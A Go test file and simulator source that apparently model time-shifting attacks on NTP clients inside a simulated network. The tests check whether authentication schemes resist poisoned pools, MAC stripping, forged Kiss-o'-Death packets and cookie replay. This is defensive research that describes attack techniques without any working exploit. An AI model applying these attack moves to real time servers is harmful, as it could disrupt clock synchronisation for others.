func TestAuthValidation(t *testing.T) {
	cases := []Config{
		authCfg(time.Hour, &AuthModel{Frac: -0.1}),
		authCfg(time.Hour, &AuthModel{Frac: 1.5}),
		authCfg(time.Hour, &AuthModel{Scheme: "rot13"}),
		authCfg(time.Hour, &AuthModel{Move: "teleport"}),
	}
	for i, cfg := range cases {
		if _, err := Run(cfg); !errors.Is(err, ErrBadAuth) {
			t.Errorf("case %d: err = %v, want ErrBadAuth", i, err)
		}
	}
	wire := authCfg(time.Hour, &AuthModel{Frac: 1})
	wire.Wire = true
	if _, err := Run(wire); !errors.Is(err, ErrBadAuth) {
		t.Errorf("wire+auth: err = %v, want ErrBadAuth", err)
	}
}

// TestAuthFracZeroMatchesNilModel pins the pass-through property the E10
// goldens rely on: an unauthenticated client under the plain shift move
// consumes the RNG exactly like the pre-auth engine, so the two runs are
// field-for-field identical.
func TestAuthFracZeroMatchesNilModel(t *testing.T) {
	base, err := Run(authCfg(12*time.Hour, nil))
	if err != nil {
		t.Fatal(err)
	}
	lax, err := Run(authCfg(12*time.Hour, &AuthModel{Frac: 0, Move: MoveShift}))
	if err != nil {
		t.Fatal(err)
	}
	if lax.AuthRejected != 0 || lax.Demobilized != 0 {
		t.Fatalf("lax pass-through counted rejects %d / demobilized %d", lax.AuthRejected, lax.Demobilized)
	}
	if *base != *lax {
		t.Fatalf("frac-0 shift diverged from the nil model:\nnil  = %+v\nfrac0 = %+v", base, lax)
	}
}

// TestAuthShiftMove: the plain pool-level attack against credentials.
// Strong per-server credentials turn the 2/3-poisoned pool attack into
// starvation (the attacker's replies never verify), while a forgeable
// scheme re-enables it unchanged.
func TestAuthShiftMove(t *testing.T) {
	t.Run("require-strong-defeats-poisoned-pool", func(t *testing.T) {
		res, err := Run(authCfg(12*time.Hour, &AuthModel{Frac: 1, Scheme: AuthSHA256}))
		if err != nil {
			t.Fatal(err)
		}
		if res.Shifted {
			t.Fatalf("shifted through SHA-256 credentials: %+v", res)
		}
		if res.AuthRejected == 0 {
			t.Fatal("no attacker replies were rejected")
		}
		if res.MaxOffset > 20*time.Millisecond {
			t.Errorf("max offset %v, want small (attacker never verified)", res.MaxOffset)
		}
	})
	t.Run("forgeable-scheme-reenables-attack", func(t *testing.T) {
		res, err := Run(authCfg(12*time.Hour, &AuthModel{Frac: 1, Scheme: AuthMD5}))
		if err != nil {
			t.Fatal(err)
		}
		if !res.Shifted {
			t.Fatalf("forgeable MD5 credentials did not re-enable the shift: %+v", res)
		}
	})
}

// TestAuthMACStrip: the full-MitM tamper move. A client that does not
// require authentication accepts the rewritten replies and is shifted
// in the minimum number of rounds; a require-auth client under a strong
// scheme rejects everything — total starvation, but no shift.
func TestAuthMACStrip(t *testing.T) {
	t.Run("lax-client-falls-immediately", func(t *testing.T) {
		res, err := Run(authCfg(6*time.Hour, &AuthModel{Frac: 0, Move: MoveMACStrip}))
		if err != nil {
			t.Fatal(err)
		}
		if !res.Shifted {
			t.Fatalf("MitM tamper did not shift the lax client: %+v", res)
		}
		if res.RoundsToShift > 8 {
			t.Errorf("RoundsToShift = %d, want ≤ 8 (every sample is attacker-controlled)", res.RoundsToShift)
		}
	})
	t.Run("require-strong-starves-but-holds", func(t *testing.T) {
		res, err := Run(authCfg(6*time.Hour, &AuthModel{Frac: 1, Scheme: AuthNTS, Move: MoveMACStrip}))
		if err != nil {
			t.Fatal(err)
		}
		if res.Shifted {
			t.Fatalf("shifted through stripped NTS credentials: %+v", res)
		}
		if res.Updates != 0 || res.PanicUpdates != 0 {
			t.Fatalf("updates %d / panic updates %d under total starvation, want 0/0", res.Updates, res.PanicUpdates)
		}
		if res.AuthRejected == 0 {
			t.Fatal("nothing was rejected under mac-strip")
		}
	})
	t.Run("forgeable-scheme-tampers-through", func(t *testing.T) {
		res, err := Run(authCfg(6*time.Hour, &AuthModel{Frac: 1, Scheme: AuthMD5, Move: MoveMACStrip}))
		if err != nil {
			t.Fatal(err)
		}
		if !res.Shifted {
			t.Fatalf("MD5 re-sealing did not shift the require-auth client: %+v", res)
		}
	})
}

// TestAuthForgeKoD: forged DENY kisses permanently demobilize a
// KoD-compliant unauthenticated client's benign associations (after
// which the attacker owns every sample), while a require-auth client
// ignores the unauthenticated kisses entirely.
func TestAuthForgeKoD(t *testing.T) {
	t.Run("lax-client-demobilized-then-shifted", func(t *testing.T) {
		res, err := Run(authCfg(24*time.Hour, &AuthModel{Frac: 0, Move: MoveForgeKoD}))
		if err != nil {
			t.Fatal(err)
		}
		if res.Demobilized != 133-89 {
			t.Fatalf("Demobilized = %d, want all %d benign servers", res.Demobilized, 133-89)
		}
		if !res.Shifted {
			t.Fatalf("attacker-only pool did not shift the lax client: %+v", res)
		}
	})
	t.Run("require-auth-ignores-forged-kisses", func(t *testing.T) {
		res, err := Run(authCfg(6*time.Hour, &AuthModel{Frac: 1, Scheme: AuthSHA256, Move: MoveForgeKoD}))
		if err != nil {
			t.Fatal(err)
		}
		if res.Demobilized != 0 {
			t.Fatalf("require-auth client believed %d forged kisses", res.Demobilized)
		}
		if res.Shifted {
			t.Fatalf("shifted under forge-kod with strong credentials: %+v", res)
		}
		if res.MaxOffset > 20*time.Millisecond {
			t.Errorf("max offset %v, want small (honest replies stand)", res.MaxOffset)
		}
	})
}

// TestAuthCookieReplay: replayed authenticated responses are rejected by
// the unique-identifier/origin binding unless the scheme is forgeable
// (in which case the attacker just forges fresh credentials).
func TestAuthCookieReplay(t *testing.T) {
	t.Run("nts-binding-rejects-replay", func(t *testing.T) {
		res, err := Run(authCfg(6*time.Hour, &AuthModel{Frac: 1, Scheme: AuthNTS, Move: MoveCookieReplay}))
		if err != nil {
			t.Fatal(err)
		}
		if res.Shifted {
			t.Fatalf("shifted through replayed NTS responses: %+v", res)
		}
		if res.Updates != 0 || res.PanicUpdates != 0 {
			t.Fatalf("updates %d / panic updates %d, want starvation", res.Updates, res.PanicUpdates)
		}
		if res.AuthRejected == 0 {
			t.Fatal("no replays were rejected")
		}
	})
	t.Run("forgeable-scheme-shifts", func(t *testing.T) {
		res, err := Run(authCfg(12*time.Hour, &AuthModel{Frac: 1, Scheme: AuthMD5, Move: MoveCookieReplay}))
		if err != nil {
			t.Fatal(err)
		}
		if !res.Shifted {
			t.Fatalf("forgeable scheme did not shift under cookie-replay: %+v", res)
		}
	})
}

// TestAuthQuorumKeepsStarvedClientSyncing is the policy-axis contrast:
// with full strong credentials the attacker's replies never verify, so a
// classic C1/C2 client (MinReplies ≥ 10) is starved onto the panic-mode
// fallback, while a chrony-style minsources quorum keeps accepting the
// small authenticated cluster on the normal path. Neither shifts.
func TestAuthQuorumKeepsStarvedClientSyncing(t *testing.T) {
	auth := &AuthModel{Frac: 1, Scheme: AuthSHA256}

	classic, err := Run(authCfg(6*time.Hour, auth))
	if err != nil {
		t.Fatal(err)
	}
	// ~5 of 15 samples verify, under the MinReplies ≥ 10 floor: normal-path
	// updates need a ≥10-credentialed draw, rare enough to be incidental.
	if classic.Updates > 5 {
		t.Fatalf("classic client got %d normal-path updates from ~5 verified samples", classic.Updates)
	}
	if classic.PanicUpdates == 0 {
		t.Fatal("classic client never fell back to panic mode")
	}

	qcfg := authCfg(6*time.Hour, auth)
	qcfg.Client.MinSources = 3
	quorum, err := Run(qcfg)
	if err != nil {
		t.Fatal(err)
	}
	if quorum.Updates <= 10*classic.Updates || quorum.Updates < 100 {
		t.Fatalf("quorum normal-path updates = %d (classic %d), want routine acceptance",
			quorum.Updates, classic.Updates)
	}
	if quorum.Shifted || classic.Shifted {
		t.Fatalf("shifted under strong credentials (classic=%v quorum=%v)", classic.Shifted, quorum.Shifted)
	}
	if quorum.MaxOffset > 20*time.Millisecond {
		t.Errorf("quorum client max offset %v, want small", quorum.MaxOffset)
	}
}

// TestAuthMoveRegistry pins the separate move registry: the auth moves
// must not leak into the strategy registry E10 sweeps.
func TestAuthMoveRegistry(t *testing.T) {
	moves := AuthMoves()
	want := []string{MoveCookieReplay, MoveForgeKoD, MoveMACStrip, MoveShift}
	if len(moves) != len(want) {
		t.Fatalf("AuthMoves() = %v, want %v", moves, want)
	}
	for i := range want {
		if moves[i] != want[i] {
			t.Fatalf("AuthMoves() = %v, want %v", moves, want)
		}
	}
	for _, m := range moves {
		if AuthMoveDescription(m) == "" {
			t.Errorf("move %q has no description", m)
		}
		if _, err := ByName(m); err == nil && m != "" {
			t.Errorf("auth move %q leaked into the strategy registry", m)
		}
	}
	for _, s := range AuthSchemes() {
		if (s == AuthMD5) != SchemeForgeable(s) {
			t.Errorf("SchemeForgeable(%q) = %v", s, SchemeForgeable(s))
		}
	}
}
