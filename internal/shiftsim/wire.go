package shiftsim

import (
	"fmt"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/clock"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// Wire-mode topology bases (every run is its own network).
var (
	wireBenignBase = simnet.IPv4(203, 0, 0, 1)
	wireEvilBase   = simnet.IPv4(66, 0, 0, 1)
	wireClientIP   = simnet.IPv4(10, 0, 0, 1)
)

// wireAdapter bridges a Strategy into ntpserver.RequestShiftStrategy: it
// reads the client's clock error off the request's TransmitTime and
// converts the strategy's desired *sample offset* into the served shift
// (sample ≈ shift − clientError, so shift = plan + observed).
type wireAdapter struct {
	strategy Strategy
	ccfg     chronos.Config
	pool     int
	mal      int
	start    time.Time
}

// Shift implements ntpserver.ShiftStrategy (unreachable: the server
// prefers ShiftForRequest).
func (w *wireAdapter) Shift(time.Time) time.Duration { return 0 }

// ShiftForRequest implements ntpserver.RequestShiftStrategy.
func (w *wireAdapter) ShiftForRequest(now time.Time, req *ntpwire.Packet, _ simnet.Addr) time.Duration {
	obs := req.TransmitTime.Time().Sub(now)
	round := int(now.Sub(w.start)/w.ccfg.SyncInterval) + 1
	plan := w.strategy.Plan(View{
		Wire:          true,
		Round:         round,
		Observed:      obs,
		SampleSize:    w.ccfg.SampleSize,
		CaptureNeed:   w.ccfg.SampleSize - w.ccfg.Trim,
		PoolSize:      w.pool,
		PoolMalicious: w.mal,
		Config:        w.ccfg,
	})
	return plan + obs
}

// runWire executes a full packet-fidelity run: a real chronos.Client
// against ntpserver farms on simnet, the attacker's servers driven by the
// strategy through the request-aware hook. It is the ground truth the
// compressed engine is validated against.
func runWire(cfg Config) (*Result, error) {
	net := simnet.New(simnet.Config{Seed: cfg.Seed})
	benign := cfg.PoolSize - cfg.Malicious

	var ips []simnet.IP
	if benign > 0 {
		_, benIPs, err := ntpserver.Farm(net, wireBenignBase, benign, cfg.HonestErr, 0)
		if err != nil {
			return nil, fmt.Errorf("shiftsim: benign farm: %w", err)
		}
		ips = append(ips, benIPs...)
	}
	if cfg.Malicious > 0 {
		adapter := &wireAdapter{
			strategy: cfg.Strategy,
			ccfg:     cfg.Client,
			pool:     cfg.PoolSize,
			mal:      cfg.Malicious,
			start:    net.Now(),
		}
		_, evilIPs, err := ntpserver.MaliciousFarm(net, wireEvilBase, cfg.Malicious, adapter)
		if err != nil {
			return nil, fmt.Errorf("shiftsim: malicious farm: %w", err)
		}
		ips = append(ips, evilIPs...)
	}

	host, err := net.AddHost(wireClientIP)
	if err != nil {
		return nil, err
	}
	clk := clock.New(net.Now(), 0, cfg.DriftPPM)
	cli := chronos.New(host, clk, nil, cfg.Client)
	if err := cli.SeedPool(ips); err != nil {
		return nil, err
	}
	if cfg.Wander.Enabled() {
		var walk func()
		walk = func() {
			clk.SetDrift(net.Now(), cfg.Wander.Next(net.Rand(), clk.DriftPPM()))
			net.After(cfg.Client.SyncInterval, walk)
		}
		net.After(cfg.Client.SyncInterval, walk)
	}

	start := net.Now()
	end := start.Add(cfg.Horizon)
	res := &Result{}
	for net.Now().Before(end) {
		if !net.Step() {
			break
		}
		now := net.Now()
		off := clk.Offset(now)
		if a := absDur(off); a > res.MaxOffset {
			res.MaxOffset = a
		}
		if !res.Shifted && absDur(off) >= cfg.Target {
			res.Shifted = true
			res.TimeToShift = now.Sub(start)
			res.RoundsToShift = int(cli.Stats().Rounds)
			break
		}
		if cfg.MaxRounds > 0 && int(cli.Stats().Rounds) > cfg.MaxRounds {
			break
		}
	}
	cli.Stop()

	st := cli.Stats()
	res.Rounds = int(st.Rounds)
	res.Attempts = int(st.Rounds + st.Resamples)
	res.Updates = int(st.Updates)
	res.Resamples = int(st.Resamples)
	res.Panics = int(st.Panics)
	res.PanicUpdates = int(st.PanicUpdates)
	now := net.Now()
	res.FinalOffset = clk.Offset(now)
	res.Elapsed = now.Sub(start)
	return res, nil
}
